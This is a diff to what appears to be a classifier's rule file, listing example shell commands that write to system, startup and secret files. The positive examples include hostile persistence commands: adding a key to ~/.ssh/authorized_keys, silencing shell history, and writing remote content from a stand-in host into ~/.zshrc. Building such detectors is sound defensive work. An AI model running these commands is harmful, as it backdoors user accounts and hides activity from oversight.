@@ -32,9 +32,9 @@ write-system: overwrite · family write to system paths
   - cat /etc/hosts ¦ cp /etc/hosts . ¦ ls > /tmp/out ¦ cp /usr/share/dict/words words
 
 write-startup: weaken · family write to startup files
-  * · writes is startup
+  * · writes is startup,later
   + echo 'alias ls=x' >> ~/.bashrc ¦ cat key.pub >> ~/.ssh/authorized_keys ¦ ln -sf /dev/null ~/.bash_history
-  + curl https://a.b/c > ~/.zshrc
+  + curl https://a.b/c > ~/.zshrc ¦ echo 'system 1' > ~/.irbrc
   - cat ~/.bashrc ¦ grep PATH ~/.profile ¦ cp ~/.bashrc /tmp/b ¦ echo x > bashrc.txt
 
 write-secret: overwrite · family write over keys
